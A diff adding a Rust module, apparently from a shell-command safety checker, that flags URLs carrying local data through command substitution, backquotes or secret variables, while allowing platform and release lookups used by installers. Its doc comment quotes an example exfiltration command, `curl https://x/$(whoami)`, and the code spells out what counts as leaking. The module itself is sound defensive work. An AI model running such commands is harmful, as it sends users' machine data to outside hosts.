@@ -1,0 +1,99 @@
+//! Command output put into a URL: an exfiltration channel (`curl
+//! https://x/$(whoami)`), except for the output installers put there to
+//! name the platform or the release they download (`$(uname -s)-$(uname
+//! -m)`, `$(dpkg --print-architecture)`, a version fetched from the same
+//! release server): nothing of this machine's data leaves with those.
+
+/// Whether a URL word carries this machine's data: a secret variable, a
+/// backquote, or a command substitution other than the platform and
+/// release lookups installers use.
+pub(super) fn carries_local_data(url: &str) -> bool {
+    if url.contains('`') || super::secret_var(url).is_some() {
+        return true;
+    }
+    let mut rest = url;
+    while let Some((_, after)) = rest.split_once("$(") {
+        let Some(inner) = substitution(after) else {
+            return true;
+        };
+        if !platform_or_release(inner) {
+            return true;
+        }
+        rest = after.get(inner.len() + 1..).unwrap_or("");
+    }
+    false
+}
+
+/// The text of a `$(...)` up to its closing parenthesis (`None` when it
+/// nests or does not close: judged as data).
+fn substitution(after: &str) -> Option<&str> {
+    let end = after.find(')')?;
+    let inner = after.get(..end)?;
+    (!inner.contains('(')).then_some(inner)
+}
+
+/// Whether a substituted pipeline only names the platform or fetches a
+/// release name: its first command is `uname` with the kernel, machine or
+/// release flags (not `-n` or `-a`: they hold the host name), `arch`,
+/// `nproc`, `dpkg --print-architecture`, `lsb_release -cs`, `rpm -E
+/// MACRO`, or a fetch of a URL that sends nothing; the commands after it
+/// are case or character filters that name no file (`tr`, `cut`, `head`,
+/// `sed`, `awk`).
+fn platform_or_release(inner: &str) -> bool {
+    if inner.contains(['$', '>', '<', ';', '&', '\n']) {
+        return false;
+    }
+    let mut stages = inner.split('|');
+    let first: Vec<&str> = stages.next().unwrap_or("").split_whitespace().collect();
+    lookup(&first)
+        && stages.all(|stage| {
+            let words: Vec<&str> = stage.split_whitespace().collect();
+            matches!(
+                words.first(),
+                Some(&("tr" | "cut" | "head" | "sed" | "awk"))
+            ) && words.iter().skip(1).all(|w| {
+                let w = w.trim_matches(['\'', '"']);
+                !w.starts_with(['/', '~', '.']) && !w.contains("/etc") && !w.contains("/home")
+            })
+        })
+}
+
+/// The first command of `platform_or_release`.
+fn lookup(words: &[&str]) -> bool {
+    match words {
+        ["uname", flags @ ..] => flags.iter().all(|f| {
+            f.strip_prefix('-').is_some_and(|l| {
+                !l.is_empty() && !l.starts_with('-') && l.chars().all(|c| "smrpio".contains(c))
+            }) || matches!(
+                *f,
+                "--kernel-name"
+                    | "--machine"
+                    | "--kernel-release"
+                    | "--processor"
+                    | "--hardware-platform"
+                    | "--operating-system"
+            )
+        }),
+        ["arch"] | ["nproc"] | ["dpkg", "--print-architecture"] | ["rpm", "-E", _] => true,
+        ["lsb_release", flags @ ..] => flags.iter().all(|f| {
+            f.strip_prefix('-')
+                .is_some_and(|l| l.chars().all(|c| "csri".contains(c)))
+        }),
+        ["curl" | "wget", args @ ..] => args.iter().all(|a| {
+            let url = a.starts_with("https://") || a.starts_with("http://");
+            let quiet = a.starts_with('-')
+                && !a.starts_with("--")
+                && a.chars().skip(1).all(|c| "sSLfqO-".contains(c))
+                || matches!(
+                    *a,
+                    "--silent" | "--location" | "--fail" | "--show-error" | "--quiet"
+                );
+            quiet
+                || url
+                    && super::net::host_of(a)
+                        .map(super::net::classify)
+                        .is_some_and(|c| c != super::net::HostClass::Metadata)
+        }),
+        _ => false,
+    }
+}
